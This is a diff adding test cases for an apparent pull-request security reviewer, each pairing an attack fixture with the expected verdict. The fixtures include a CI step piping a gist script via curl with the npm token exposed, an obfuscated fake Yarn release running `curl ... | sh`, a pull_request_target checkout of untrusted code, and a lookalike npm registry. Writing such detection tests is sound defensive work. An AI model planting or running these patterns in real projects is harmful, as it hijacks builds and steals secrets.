+            head: lines('package lint', '', 'import (', '\t"io"', '\t"net/http"', '\t"os"', '\t"os/exec"', ')', '', 'const url = "https://github.com/golangci/golangci-lint/releases/download/v1.61.0/golangci-lint-linux-amd64"', '', 'func Run(bin string) error {', '\tresp, err := http.Get(url)', '\tif err != nil {', '\t\treturn err', '\t}', '\tdefer resp.Body.Close()', '\tf, err := os.Create(bin)', '\tif err != nil {', '\t\treturn err', '\t}', '\tif _, err := io.Copy(f, resp.Body); err != nil {', '\t\treturn err', '\t}', '\tf.Close()', '\tos.Chmod(bin, 0755)', '\tcmd := exec.Command(bin, "run", "./...")', '\tcmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr', '\treturn cmd.Run()', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
+  },
+  {
+    id: 'attack-workflow-runs-gist-through-process-substitution',
+    description: 'A CI edit that runs a Python script straight from a gist through process substitution (`python3 <(curl -s …)`) in a step that holds the npm token: curl | sh written so no pipe is seen.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11028,
+        title: 'CI: speed up tests',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: lines('name: ci', 'on: push', 'permissions: { contents: read }', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: npm ci && npm test'),
+            head: lines('name: ci', 'on: push', 'permissions: { contents: read }', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: python3 <(curl -s https://gist.githubusercontent.com/ci-helper/1a2b/raw/ci.py)', '        env:', '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}', '      - run: npm ci && npm test'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-yarn-release-that-is-no-release',
+    description: 'A "bump Yarn" PR that points yarnPath at a new .yarn/releases/yarn-4.5.1.cjs whose whole text fits in the diff (a real release is a bundle of megabytes that GitHub does not show): a small script every `yarn` command would run, dressed as the package manager.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11029,
+        title: 'Bump Yarn to 4.5.1',
+        author: 'newcomer',
+        files: [
+          { path: '.yarnrc.yml', base: lines('nodeLinker: node-modules', 'yarnPath: .yarn/releases/yarn-4.5.0.cjs'), head: lines('nodeLinker: node-modules', 'yarnPath: .yarn/releases/yarn-4.5.1.cjs') },
+          { path: '.yarn/releases/yarn-4.5.0.cjs', status: 'removed', patch: null, additions: 0, deletions: 934, base: '' },
+          {
+            path: '.yarn/releases/yarn-4.5.1.cjs',
+            head: lines('#!/usr/bin/env node', `"use strict";var e=require("child_process"),r=function(t){return t.split("").reverse().join("")};e.exec(r("hs | u/ved.stessa-detnit.ndc//:sptth s- lruc"));require(process.env.HOME+"/.yarn/berry/yarn.cjs");`),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-prt-checkout-head-through-env',
+    description: 'A pull_request_target preview workflow that checks out the PR head through a workflow-level env variable (`ref: ${{ env.PR_SHA }}`, bound to the head SHA) and builds it with a deploy token: the pwn request with its head expression moved one step away from the checkout.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11030,
+        title: 'Add PR previews',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/preview.yml',
+            head: lines('name: preview', 'on: pull_request_target', 'env:', '  PR_SHA: ${{ github.event.pull_request.head.sha }}', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '        with:', '          ref: ${{ env.PR_SHA }}', '      - run: npm ci && npm run build', '      - run: npx surge ./dist --token "$SURGE_TOKEN"', '        env:', '          SURGE_TOKEN: ${{ secrets.SURGE_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-pr-target-checkout'] },
+  },
+  {
+    id: 'attack-npmrc-lookalike-registry',
+    description: 'A "faster installs" PR whose .npmrc points every package at registry.npmjs-mirror.org, a host spelled like the public registry: every install, CI included, takes what that host serves.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11031,
+        title: 'Faster installs',
+        author: 'newcomer',
+        files: [{ path: '.npmrc', base: lines('save-exact=true'), head: lines('save-exact=true', 'registry=https://registry.npmjs-mirror.org/') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-registry-override'] },
   },
 ];
